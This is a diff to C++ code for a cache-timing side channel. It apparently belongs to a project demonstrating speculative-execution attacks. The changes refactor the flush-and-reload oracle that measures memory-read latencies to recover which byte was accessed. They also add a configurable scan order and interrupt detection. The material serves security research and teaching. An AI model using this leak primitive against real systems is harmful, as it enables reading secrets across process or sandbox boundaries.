@@ -30,6 +30,16 @@ static std::pair<size_t, size_t> TwoTwoIndices(const RangeT &range) {
   return result;
 }
 
+static OraclePermutation default_scan_order = {167, 13};
+
+OraclePermutation CacheSideChannel::ScanOrder() {
+  return default_scan_order;
+}
+
+void CacheSideChannel::SetScanOrder(const OraclePermutation &order) {
+  default_scan_order = order;
+}
+
 const std::array<BigByte, 256> &CacheSideChannel::GetOracle() const {
   return padded_oracle_array_->oracles_;
 }
@@ -42,30 +52,45 @@ void CacheSideChannel::FlushOracle() const {
     FlushDataCacheLineNoBarrier(&b);
   }
   MemoryAndSpeculationBarrier();
-}
 
-std::pair<bool, char> CacheSideChannel::RecomputeScores(
-    char safe_offset_char) {
-  std::array<uint64_t, 256> latencies = {};
-  size_t best_val = 0, runner_up_val = 0;
+  if (interrupt_detector_) {
+    interrupt_detector_->BeginRound();
+  }
+}
 
+bool CacheSideChannel::MeasureLatencies(
+    std::array<uint64_t, 256> *latencies) {
   // Here's the timing side channel: find which char was loaded by measuring
   // latency. Indexing into oracle causes the relevant region of
   // memory to be loaded into cache, which makes it faster to load again than
   // it is to load entries that had not been accessed.
-  // Only two offsets will have been accessed: safe_offset_char (which we
-  // ignore), and i.
-  // Note: if the character at safe_offset_char is the same as the character we
-  // want to know at i, the data from this run will be useless, but later runs
-  // will use a different safe_offset_char.
+  OraclePermutation scan_order = ScanOrder();
+  if (interrupt_detector_) {
+    interrupt_detector_->BeginScan();
+  }
   for (size_t i = 0; i < 256; ++i) {
     // Some CPUs (e.g. AMD Ryzen 5 PRO 2400G) prefetch cache lines, rendering
     // them all equally fast. Therefore it is necessary to confuse them by
     // accessing the offsets in a pseudo-random order.
-    size_t mixed_i = ((i * 167) + 13) & 0xFF;
-    latencies[mixed_i] = MeasureReadLatency(&GetOracle()[mixed_i]);
+    size_t mixed_i = scan_order(i);
+    (*latencies)[mixed_i] = MeasureReadLatency(&GetOracle()[mixed_i]);
   }
 
+  // A disturbed round is not scored.
+  return !interrupt_detector_ ||
+         !interrupt_detector_->EndScan(latencies->data(), latencies->size());
+}
+
+int CacheSideChannel::DecodeLatencies(
+    const std::array<uint64_t, 256> &latencies, char safe_offset_char) {
+  size_t safe_offset =
+      static_cast<size_t>(static_cast<unsigned char>(safe_offset_char));
+
+  // Only two offsets will have been accessed: safe_offset_char (which we
+  // ignore), and i.
+  // Note: if the character at safe_offset_char is the same as the character we
+  // want to know at i, the data from this run will be useless, but later runs
+  // will use a different safe_offset_char.
   std::list<uint64_t> sorted_latencies_list(latencies.begin(), latencies.end());
   // We have to use the std::list::sort implementation, because invocations of
   // std::sort, std::stable_sort, std::nth_element and std::partial_sort when
@@ -80,37 +105,50 @@ std::pair<bool, char> CacheSideChannel::RecomputeScores(
   // The difference between a cache-hit and cache-miss times is significantly
   // different across platforms. Therefore we must first compute its estimate
   // using the safe_offset_char which should be a cache-hit.
-  uint64_t hitmiss_diff = median_latency - latencies[
-      static_cast<size_t>(static_cast<unsigned char>(safe_offset_char))];
+  uint64_t hitmiss_diff = median_latency - latencies[safe_offset];
 
   int hitcount = 0;
+  int hit = -1;
   for (size_t i = 0; i < 256; ++i) {
     if (latencies[i] < median_latency - hitmiss_diff / 2 &&
-        i != safe_offset_char) {
+        i != safe_offset) {
       ++hitcount;
+      hit = static_cast<int>(i);
     }
   }
 
-  // If there is not exactly one hit, we consider that sample invalid and
-  // skip it.
-  if (hitcount == 1) {
-    for (size_t i = 0; i < 256; ++i) {
-      if (latencies[i] < median_latency - hitmiss_diff / 2 &&
-          i != safe_offset_char) {
-        ++scores_[i];
-      }
-    }
+  // If there is not exactly one hit, we consider that sample invalid.
+  return hitcount == 1 ? hit : -1;
+}
+
+int CacheSideChannel::FindAccessedIndex(char safe_offset_char) {
+  std::array<uint64_t, 256> latencies = {};
+  if (!MeasureLatencies(&latencies)) {
+    return -1;
   }
+  return DecodeLatencies(latencies, safe_offset_char);
+}
 
-  std::tie(best_val, runner_up_val) = TwoTwoIndices(scores_);
-  return std::make_pair((scores_[best_val] > 2 * scores_[runner_up_val] + 40),
-                        best_val);
+std::pair<bool, char> CacheSideChannel::RecomputeScores(
+    char safe_offset_char) {
+  int hit = FindAccessedIndex(safe_offset_char);
+  if (hit != -1) {
+    ++scores_[hit];
+  }
+  return DecideScores(scores_);
+}
+
+std::pair<bool, int> CacheSideChannel::DecideScores(
+    const std::array<int, 257> &scores) {
+  size_t best_val = 0, runner_up_val = 0;
+  std::tie(best_val, runner_up_val) = TwoTwoIndices(scores);
+  return std::make_pair((scores[best_val] > 2 * scores[runner_up_val] + 40),
+                        static_cast<int>(best_val));
 }
 
 std::pair<bool, char> CacheSideChannel::AddHitAndRecomputeScores() {
-  static size_t additional_offset_counter = 0;
-  size_t mixed_i = ((additional_offset_counter * 167) + 13) & 0xFF;
+  size_t mixed_i = default_scan_order(additional_offset_counter_);
   ForceRead(GetOracle().data() + mixed_i);
-  additional_offset_counter = (additional_offset_counter + 1) % 256;
+  additional_offset_counter_ = (additional_offset_counter_ + 1) % 256;
   return RecomputeScores(static_cast<char>(mixed_i));
 }